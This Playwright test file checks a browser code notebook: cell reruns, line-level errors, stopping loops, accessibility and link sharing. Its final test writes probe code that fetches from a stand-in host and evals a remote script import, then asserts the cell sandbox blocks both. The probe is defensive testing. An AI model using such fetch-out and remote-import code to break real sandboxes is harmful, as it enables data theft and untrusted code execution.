/** Cells that run, run again, fail at their line, never end and are stopped; kept, in an address, and waiting for a press. */
import {expect, test} from "@playwright/test";
import type {Locator, Page} from "@playwright/test";
import {expectAccessible} from "./accessible.js";
import {SitePage} from "./site-page.js";

/** The notebook as a reader knows it. */
class NotebookPage extends SitePage {
  constructor(page: Page) {
    super(page);
  }

  cell(number: number): Locator {
    return this.page.getByRole("region", {name: new RegExp(`^Cell ${number},`)});
  }

  result(number: number): Locator {
    return this.page.getByRole("group", {name: `Result of cell ${number}`, exact: true});
  }

  /** Writes a cell anew, and runs it. */
  async write(number: number, text: string): Promise<void> {
    const editor = this.cell(number).getByRole("textbox");
    await editor.click();
    await this.page.keyboard.press("ControlOrMeta+a");
    await this.page.keyboard.insertText(text);
    await this.page.keyboard.press("Shift+Enter");
  }
}

test("the first notebook runs; a cell that is changed changes others, fails at its line, is stopped; all is kept and travels in an address", async ({
  page
}) => {
  const notebook = new NotebookPage(page);
  await page.goto("/notebook");
  await notebook.done();
  const last = notebook.result(11);
  await expect(last).toContainText("31 cells on a side, for the kernel spans 3 of 33");
  await notebook.result(2).getByRole("slider", {name: "Rate"}).press("ArrowRight");
  await expect(last).toContainText("29 cells on a side, for the kernel spans 5 of 33");

  await notebook.write(3, "type Row = readonly number[];\nconst kernel: readonly Row[] = [[0, 0, 0],\n  [0, missing as number, 0]\n];");
  await expect(notebook.cell(3).getByRole("alert")).toHaveText("Line 3: missing is not defined: no cell names it, and it is not in scope.");
  await expect(notebook.cell(3).locator(".cm-lintRange-error")).toHaveText("missing");
  await expect(notebook.cell(8).getByRole("alert")).toContainText("This cell waits for kernel");
  for (const [width, colorScheme] of [
    [390, "dark"],
    [1280, "light"]
  ] as const) {
    await page.setViewportSize({width, height: 844});
    await page.emulateMedia({colorScheme});
    await expectAccessible(page, `notebook, ${width} px, ${colorScheme}`);
  }

  await notebook.write(3, "while (true) {}");
  await notebook.cell(3).getByRole("button", {name: "Stop"}).click();
  await expect(notebook.cell(3).getByRole("alert")).toHaveText("Stopped. Change this cell, or run it again.");
  await expect(notebook.result(5)).toContainText("The photo in greys");
  await notebook.write(3, "const kernel = [[0, 0, 0], [0, 1, 0], [0, 0, 0]];");
  await expect(last).toContainText("The two differ by at most 0.0e+0");

  await page.getByRole("button", {name: "Copy a link"}).click();
  await expect(page).toHaveURL(/#cells=/);
  const address = page.url();
  await page.goto("/notebook?notebook=convolution");
  await expect(notebook.cell(3).getByRole("textbox")).toContainText("[0, 1, 0], [0, 0, 0]");

  const other = new NotebookPage(await page.context().browser()!.newPage());
  await other.page.goto(address);
  await expect(other.cell(3).getByRole("textbox")).toContainText("[0, 1, 0], [0, 0, 0]");
  await expect(other.result(2)).toBeEmpty();
  await other.page.getByRole("button", {name: "Run these cells"}).click();
  await expect(other.result(11)).toContainText("for the kernel spans 3 of 33");
  await other.page.close();
  notebook.expectNoProblem();
  other.expectNoProblem();
});

test("names are completed, with what they do", async ({page}) => {
  const notebook = new NotebookPage(page);
  await page.goto("/notebook?notebook=exercise");
  await notebook.done();
  await page.getByRole("button", {name: "Add code", exact: true}).click();
  await page.keyboard.type("squ");
  await page.getByRole("option", {name: "squareHolding"}).click();
  await page.keyboard.type("sp");
  await expect(page.getByRole("option", {name: /^span/})).toBeVisible();
  await page.keyboard.press("Escape");
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.type("show.ma");
  await expect(page.getByRole("option", {name: "maps"})).toBeVisible();
  await expect(page.locator(".cm-completionInfo")).toContainText("One channel as colours");
  notebook.expectNoProblem();

  // Cells, which a link may have brought, have nothing of what this origin keeps, and reach no other host, which would answer here.
  const answered: string[] = [];
  await page.route("https://elsewhere.example/**", (route) => {
    answered.push(route.request().url());
    return route.fulfill({contentType: "text/javascript", headers: {"access-control-allow-origin": "*"}, body: ""});
  });
  await page.keyboard.press("Escape");
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.insertText(`[
    ...["indexedDB", "caches", "Worker", "BroadcastChannel"].map((name) => name in globalThis),
    await fetch("https://elsewhere.example/?photo").catch(({message}) => message),
    await eval('import("https://elsewhere.example/photo.js")').then(() => "came", () => "did not come")
  ].join(" ")`);
  await page.keyboard.press("Shift+Enter");
  await expect(page.getByText("false false false false Cells read the files of this site alone.")).toContainText("did not come");
  expect(answered).toEqual([]);
});
